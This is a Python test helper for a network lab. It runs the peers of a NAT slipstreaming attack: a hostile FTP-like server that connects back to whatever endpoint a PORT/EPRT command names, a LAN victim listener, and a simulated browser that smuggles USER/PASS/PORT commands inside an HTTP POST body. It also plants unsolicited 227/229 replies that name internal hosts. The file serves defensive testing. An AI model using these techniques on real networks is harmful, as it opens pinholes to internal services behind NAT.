#!/usr/bin/python3
"""attack_peers.py - the other ends of the attack lab (tests/lab/attack.py).

    attack_peers.py hostile --addr A[,A6] --ports 21,2121 --mode-file F --log F
        The hostile WAN server of a NAT slipstreaming attack, on each address
        (IPv4 and IPv6) and port.  Per connection it reads the mode file:
          greet-first   send "220" on accept (an FTP-looking server)
          greet-after   send "220" only once the client has spoken (the request
                        came before the greeting)
          unsolicited   a plain FTP server whose answer to NOOP is an unsolicited
                        "227" naming a LAN host (UNSOLICITED below)
          unsolicited229 the same with an (addressless) "229" (UNSOLICITED229)
        It answers USER 331, PASS 230, NOOP 200, PORT/EPRT 200 wherever they appear in the
        stream (inside an HTTP body too), and after each PORT/EPRT connects to the
        endpoint it was told, as the attacker does to reach the victim.  One JSON
        line per connection goes to the log: the lines seen, each connect and its
        outcome.

    attack_peers.py victim --addr A[,A6] --port P[,P2] [--extra ADDR:PORT,...] --log F
        The victim service on the LAN (a database port), on each address and
        port, plus --extra listeners (another LAN host, a bounce target): logs
        one JSON line per accepted connection.

    attack_peers.py browser --addr A --port P --variant V
        The LAN browser a web page drives: POST / HTTP/1.1 with headers and a body
        USER a / PASS b / PORT <own address>,<port> (or EPRT).  Variants:
          one-segment     wait for the 220, then the whole request in one write
          segment-start   wait for the 220, request up to PASS in one write, then
                          PORT in a write of its own (PORT starts a segment)
          before-greeting the whole request at once, without waiting
          eprt            as one-segment with EPRT |1|addr|port|
        Over IPv6 (A is an IPv6 address) the data command is always
        EPRT |2|addr|port|: PORT cannot name an IPv6 host.
        Prints a JSON object: what came back.

    attack_peers.py seq --addr A --user U --password P --file NAME --size N --client fz|winscp
        The command sequence FileZilla (AUTH TLS, AUTH SSL first, then SYST, FEAT,
        OPTS UTF8 ON, CLNT, PWD, TYPE I) or WinSCP (HOST first, OPTS UTF8 ON,
        XSHA256...) sends, with ftplib, answers of any code accepted; then a
        passive and an active RETR (size checked) and an ABOR sent with Telnet
        IAC IP / IAC DM as urgent data (ftplib's abort()).  Prints JSON.

    attack_peers.py noop --addr A --port P [--cmd "NOOP"]
        A minimal FTP client: USER, PASS, then --cmd (NOOP by default); prints the
        replies (JSON, keyed by verb).

Everything is bounded in time.  Test traffic stays in the lab's namespaces.
"""
import json
import os
import re
import socket
import sys
import threading
import time

UNSOLICITED = "227 Entering Passive Mode (192,168,1,7,12,234)."
UNSOLICITED229 = "229 Entering Extended Passive Mode (|||3306|)"
CONNECT_TIMEOUT = 1.5
IDLE_S = 1.0          # the hostile server closes a connection idle this long
DONE_IDLE_S = 0.3     # ... or this long once it has dialled what a PORT/EPRT named
MAX_CONN_S = 8.0


def jlog(path, obj):
    with open(path, "a") as f:
        f.write(json.dumps(obj) + "\n")


def parse_target(line):
    """(host, port) from a PORT or EPRT line, or None."""
    m = re.match(r"(?i)^PORT\s+(\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\s*$", line)
    if m:
        v = [int(x) for x in m.groups()]
        return "%d.%d.%d.%d" % tuple(v[:4]), v[4] * 256 + v[5]
    m = re.match(r"(?i)^EPRT\s+(.)([12])\1([^ ]+?)\1(\d+)\1\s*$", line)
    if m:
        return m.group(3), int(m.group(4))
    return None


def try_connect(src, host, port):
    """Dials host:port from src, the hostile server's own address (a pinhole or an
    expectation is for exactly the control peer)."""
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(CONNECT_TIMEOUT)
    t0 = time.monotonic()
    try:
        s.bind((src, 0))
        s.connect((host, port))
        s.sendall(b"pwned\r\n")
        return {"target": "%s:%d" % (host, port), "connected": True,
                "secs": round(time.monotonic() - t0, 2)}
    except OSError as e:
        return {"target": "%s:%d" % (host, port), "connected": False, "error": str(e),
                "secs": round(time.monotonic() - t0, 2)}
    finally:
        s.close()


def hostile_conn(conn, lport, mode_file, log):
    try:
        with open(mode_file) as f:
            mode = f.read().strip()
    except OSError:
        mode = "greet-first"
    rec = {"port": lport, "mode": mode, "peer": conn.getpeername()[0], "lines": [],
           "connects": [], "first_bytes": ""}
    greeted = False
    if mode in ("greet-first", "unsolicited", "unsolicited229"):
        conn.sendall(b"220 hostile ready\r\n")
        greeted = True
    buf = b""
    end = time.monotonic() + MAX_CONN_S
    conn.settimeout(IDLE_S)
    try:
        while time.monotonic() < end:
            try:
                data = conn.recv(4096)
            except socket.timeout:
                break
            if not data:
                break
            if not rec["first_bytes"]:
                rec["first_bytes"] = data[:60].decode("latin-1")
            if not greeted:
                conn.sendall(b"220 hostile ready\r\n")
                greeted = True
            buf += data
            while b"\n" in buf:
                raw, buf = buf.split(b"\n", 1)
                line = raw.rstrip(b"\r").decode("latin-1")
                rec["lines"].append(line)
                up = line.upper()
                if up.startswith("USER"):
                    conn.sendall(b"331 send the password\r\n")
                elif up.startswith("PASS"):
                    conn.sendall(b"230 logged in\r\n")
                elif up.startswith("NOOP"):
                    # the inline engine sends NOOP for a command it answered itself
                    conn.sendall(({"unsolicited": UNSOLICITED, "unsolicited229": UNSOLICITED229}
                                  .get(mode, "200 NOOP ok") + "\r\n").encode())
                elif up.startswith("QUIT"):
                    conn.sendall(b"221 bye\r\n")
                    raise EOFError
                else:
                    t = parse_target(line)
                    if t is not None:
                        conn.sendall(b"200 command ok\r\n")
                        rec["connects"].append(try_connect(conn.getsockname()[0], *t))
                        # the attack is complete once dialled: close soon after,
                        # not a whole IDLE_S later (keeps the lab short)
                        conn.settimeout(DONE_IDLE_S)
    except (EOFError, OSError):
        pass
    finally:
        conn.close()
        jlog(log, rec)


def listener(addr, port):
    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, port))
    s.listen(16)
    return s


def hostile(args):
    socks = []
    for a in args["addr"].split(","):
        for p in args["ports"].split(","):
            socks.append((listener(a, int(p)), int(p)))

    def serve(s, p):
        while True:
            c, _ = s.accept()
            threading.Thread(target=hostile_conn, args=(c, p, args["mode-file"], args["log"]),
                             daemon=True).start()

    for s, p in socks:
        threading.Thread(target=serve, args=(s, p), daemon=True).start()
    while True:
        time.sleep(3600)


def victim(args):
    socks = [listener(a, int(p)) for a in args["addr"].split(",") for p in args["port"].split(",")]
    if "extra" in args:     # another LAN host (a bounce target): ADDR:PORT,...
        for ap in args["extra"].split(","):
            a, p = ap.rsplit(":", 1)
            socks.append(listener(a.strip("[]"), int(p)))
    for s in socks[1:]:
        threading.Thread(target=victim_loop, args=(s, args), daemon=True).start()
    victim_loop(socks[0], args)


def victim_loop(s, args):
    while True:
        c, peer = s.accept()
        c.settimeout(1.0)
        try:
            got = c.recv(100).decode("latin-1")
        except OSError:
            got = ""
        c.close()
        jlog(args["log"], {"peer": peer[0], "addr": s.getsockname()[0],
                           "port": s.getsockname()[1], "got": got, "t": time.time()})


def recv_until(s, pred, limit_s):
    data = b""
    end = time.monotonic() + limit_s
    while time.monotonic() < end and not pred(data):
        s.settimeout(max(0.05, end - time.monotonic()))
        try:
            b = s.recv(4096)
        except socket.timeout:
            break
        if not b:
            break
        data += b
    return data


def browser(args):
    me_port = int(args.get("victim-port", "3306"))
    v = args["variant"]
    s = socket.create_connection((args["addr"], int(args["port"])), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    me = s.getsockname()[0]
    if ":" in me:           # IPv6: only EPRT can name the victim
        data_cmd = "EPRT |2|%s|%d|\r\n" % (me, me_port)
    elif v == "eprt":
        data_cmd = "EPRT |1|%s|%d|\r\n" % (me, me_port)
    else:
        data_cmd = "PORT %s,%d,%d\r\n" % (me.replace(".", ","), me_port >> 8, me_port & 255)
    body = "USER a\r\nPASS b\r\n"
    host = "[%s]" % args["addr"] if ":" in args["addr"] else args["addr"]
    head = ("POST / HTTP/1.1\r\nHost: %s:%s\r\nUser-Agent: Mozilla/5.0\r\n"
            "Content-Type: text/plain\r\nContent-Length: %d\r\n\r\n"
            % (host, args["port"], len(body) + len(data_cmd)))
    got = b""
    if v != "before-greeting":
        got += recv_until(s, lambda d: b"\n" in d, 4.0)
    if v == "segment-start":
        s.sendall((head + body).encode())
        time.sleep(0.3)
        s.sendall(data_cmd.encode())
    else:
        s.sendall((head + body + data_cmd).encode())
    got += recv_until(s, lambda d: False, 6.0)
    s.close()
    print(json.dumps({"local": me, "sent_cmd": data_cmd.strip(), "got": got.decode("latin-1")}))


def noop(args):
    s = socket.create_connection((args["addr"], int(args["port"])), timeout=5)
    out = {}
    out["greeting"] = recv_until(s, lambda d: d.endswith(b"\n"), 4.0).decode("latin-1")
    for cmd in ("USER a", "PASS b", args.get("cmd", "NOOP")):
        s.sendall((cmd + "\r\n").encode())
        out[cmd.split()[0]] = recv_until(s, lambda d: d.endswith(b"\n"), 4.0).decode("latin-1")
    s.sendall(b"QUIT\r\n")
    recv_until(s, lambda d: d.endswith(b"\n"), 2.0)
    s.close()
    print(json.dumps(out))


SEQUENCES = {
    "fz": ["AUTH TLS", "AUTH SSL", "USER", "PASS", "SYST", "FEAT", "OPTS UTF8 ON",
           "CLNT FileZilla", "PWD", "TYPE I", "OPTS MLST type;size;modify;", "MDTM %s",
           "SIZE %s"],
    "winscp": ["HOST %h", "USER", "PASS", "SYST", "FEAT", "OPTS UTF8 ON", "PWD", "CWD /",
               "TYPE A", "XSHA256 %s", "MLST %s", "TYPE I", "STAT"],
}


def seq(args):
    import ftplib
    out = {"replies": [], "ok": False}
    f = ftplib.FTP()
    f.connect(args["addr"], 21, timeout=10)
    for cmd in SEQUENCES[args["client"]]:
        if cmd == "USER":
            cmd = "USER " + args["user"]
        elif cmd == "PASS":
            cmd = "PASS " + args["password"]
        cmd = cmd.replace("%s", args["file"]).replace("%h", args["addr"])
        try:
            r = f.sendcmd(cmd)
        except ftplib.all_errors as e:
            r = str(e)
        out["replies"].append("%s -> %s" % (cmd.split()[0], r.splitlines()[0][:60]))
    sizes = []
    for passive in (True, False):
        f.set_pasv(passive)
        got = []
        f.retrbinary("RETR " + args["file"], got.append)
        sizes.append(sum(len(b) for b in got))
    try:
        out["abor"] = f.abort()[:40]
    except ftplib.all_errors as e:
        out["abor"] = str(e)[:40]
    out["noop_after_abor"] = f.sendcmd("NOOP")[:3]
    f.quit()
    out["sizes"] = sizes
    out["ok"] = all(n == int(args["size"]) for n in sizes) and out["noop_after_abor"] == "200"
    print(json.dumps(out))
    return 0 if out["ok"] else 1


def main():
    role = sys.argv[1]
    args = {}
    it = iter(sys.argv[2:])
    for k in it:
        args[k.lstrip("-")] = next(it)
    return {"hostile": hostile, "victim": victim, "browser": browser, "noop": noop,
            "seq": seq}[role](args)


if __name__ == "__main__":
    sys.exit(main())
